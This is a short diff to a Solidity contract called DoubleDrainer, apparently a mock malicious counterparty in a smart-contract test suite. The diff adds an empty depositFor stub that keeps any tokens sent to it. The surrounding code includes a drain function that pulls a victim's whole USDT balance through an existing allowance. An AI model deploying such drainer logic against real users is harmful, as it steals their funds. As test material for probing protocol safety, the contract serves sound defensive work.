@@ -16,6 +16,9 @@ contract DoubleDrainer {
         usdt.transferFrom(msg.sender, address(this), amount);
     }
 
+    /// @dev A FOM order's Double share arrives by transfer before this call: it keeps it.
+    function depositFor(address, uint256, uint256) external {}
+
     /// @dev Pulls all of `victim`'s USDT (reverts unless `victim` left an allowance that large).
     function drain(address victim) external {
         usdt.transferFrom(victim, address(this), usdt.balanceOf(victim));
